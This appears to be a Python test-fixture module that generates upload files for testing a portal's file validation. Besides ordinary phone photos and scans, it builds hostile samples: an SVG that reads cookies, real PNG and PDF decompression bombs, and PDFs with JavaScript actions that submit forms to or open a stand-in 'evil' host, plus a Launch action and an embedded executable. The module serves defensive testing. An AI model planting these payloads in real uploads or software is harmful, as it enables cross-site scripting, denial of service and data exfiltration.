"""The upload attack corpus (R24, R51), made in memory: files a portal must refuse, and phone files it must clean.

Every function returns the bytes of one file; the tests choose the name and content type the
client claims (which must not matter). Nothing here is read from disk or the network.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib

import pillow_heif
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

pillow_heif.register_heif_opener()

GPS_LATITUDE = (31.0, 18.0, 12.5)
CAMERA_MAKER = "PhoneMaker"


# --- Good files, as phones and scanners make them -------------------------------------------------


def page_picture(size: tuple[int, int] = (600, 400), text: str = "常住人口登记卡") -> Image.Image:
    """A stand-in for a photographed page: light paper, a dark block in the top left corner (shows which way is up)."""
    image = Image.new("RGB", size, (200, 180, 160))
    image.paste((20, 20, 20), (0, 0, size[0] // 4, size[1] // 4))
    ImageDraw.Draw(image).text((size[0] // 3, size[1] // 2), text, fill=(0, 0, 0))
    return image


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def jpeg_photo(size: tuple[int, int] = (600, 400)) -> bytes:
    return encoded(page_picture(size), "JPEG", quality=90)


def png_scan(size: tuple[int, int] = (600, 400)) -> bytes:
    return encoded(page_picture(size), "PNG")


def webp_photo() -> bytes:
    return encoded(page_picture(), "WEBP")


def heic_photo() -> bytes:
    """What an iPhone sends: HEIC (HEVC in an ISO-BMFF box), with EXIF naming the camera."""
    exif = Image.Exif()
    exif[0x010F] = CAMERA_MAKER
    return encoded(page_picture(), "HEIF", quality=80, exif=exif.tobytes())


def _exif(*, orientation: int | None = None, gps: bool = False) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = CAMERA_MAKER
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        position = exif.get_ifd(0x8825)
        position[1], position[2] = "N", GPS_LATITUDE
        position[3], position[4] = "E", (120.0, 35.0, 1.0)
    return exif.tobytes()


def jpeg_with_gps() -> bytes:
    """A photo with the GPS position of where it was taken (the citizen's home, most likely)."""
    return encoded(page_picture(), "JPEG", exif=_exif(gps=True))


def jpeg_rotated_by_exif() -> bytes:
    """A 600×400 photo stored sideways, EXIF orientation 6: shown upright it is 400×600."""
    return encoded(page_picture(), "JPEG", exif=_exif(orientation=6, gps=True))


def pdf_scan(pages: int = 2) -> bytes:
    """A scanner's PDF: one picture per page."""
    images = [page_picture((595, 842), text=f"page {number + 1}") for number in range(pages)]
    return encoded(images[0], "PDF", save_all=True, append_images=images[1:], resolution=72)


def pdf_blank(pages: int) -> bytes:
    writer = PdfWriter()
    for _number in range(pages):
        writer.add_blank_page(595, 842)
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- Broken and disguised files --------------------------------------------------------------------


def zero_bytes() -> bytes:
    return b""


def truncated(content: bytes) -> bytes:
    """The first two thirds: an upload cut off by a bad connection."""
    return content[: len(content) * 2 // 3]


def truncated_jpeg() -> bytes:
    return truncated(jpeg_photo())


def truncated_png() -> bytes:
    return truncated(png_scan())


def truncated_pdf() -> bytes:
    return truncated(pdf_scan(1))


def html_page() -> bytes:
    """An HTML page (sent as photo.jpg): stored and served, a browser would run it."""
    return b"<!DOCTYPE html>\n<html><body><h1>hello</h1><script>fetch('/api/v1/bindings/')</script></body></html>\n"


def executable() -> bytes:
    """A Windows program (sent as scan.png): the MZ header and a PE signature."""
    header = bytearray(b"MZ" + b"\x90\x00" * 29)
    header[0x3C:0x40] = struct.pack("<I", 0x40)
    return bytes(header[:0x40]) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<script>alert(document.cookie)</script><rect width="
        b'"100" height="100"/></svg>\n'
    )


def svg_plain() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100"/></svg>'


def gif_picture() -> bytes:
    return encoded(page_picture(), "GIF")


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@functools.cache
def bomb_png(side: int = 30_000) -> bytes:
    """A real decompression bomb: a 30000×30000 black-and-white PNG (900 million pixels) in about 100 kB.

    Written chunk by chunk: drawing it with Pillow would take the memory the bomb is about.
    """
    row = b"\x00" + b"\x00" * ((side + 7) // 8)  # filter byte, then the 1-bit pixels
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _row in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1 bit, greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", compressed) + _png_chunk(b"IEND", b"")
    )


def bomb_jpeg_header() -> bytes:
    """A JPEG whose frame header claims 65000×65000 pixels, and nothing behind it."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 65000, 65000, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof


def png_of_pixels(pixels: int, width: int = 2000) -> bytes:
    """A small black-and-white PNG of at least ``pixels`` pixels (width × the rows needed)."""
    height = -(-pixels // width)
    return encoded(Image.new("1", (width, height), 1), "PNG")


def png_just_over(limit: int, width: int = 2000) -> bytes:
    """One row more than ``limit`` pixels allows (``limit`` a multiple of ``width``)."""
    return png_of_pixels(limit + width, width)


# --- Active PDFs ---------------------------------------------------------------------------------


def _javascript_action(writer: PdfWriter, script: str) -> object:
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )
    return writer._add_object(action)


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the catalogue's /Names tree (runs when the PDF opens)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = _javascript_action(writer, "app.alert('hello');")
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("greeting"), action])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return _written(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.root_object[NameObject("/OpenAction")] = _javascript_action(writer, "this.submitForm('https://evil/');")
    return _written(writer)


def pdf_with_link_javascript() -> bytes:
    """JavaScript hidden in a link annotation of the page, not in the catalogue."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
            NameObject("/A"): _javascript_action(writer, "app.launchURL('https://evil/');"),
        }
    )
    writer.add_annotation(0, link)
    return _written(writer)


def pdf_with_launch() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe")}
    )
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("invoice.exe", executable())
    return _written(writer)


def pdf_encrypted(user_password: str = "") -> bytes:
    """Encrypted (AES-128); with an empty user password it opens without asking, and is refused all the same."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_scan(1)))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    return _written(writer)


def pdf_with_image_bomb() -> bytes:
    """A page whose picture claims 100000×100000 pixels (rendering would decode all of them)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    image = DecodedStreamObject()
    image.set_data(b"\x00" * 64)
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(100_000),
            NameObject("/Height"): NumberObject(100_000),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(1),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(image)})}
    )
    return _written(writer)
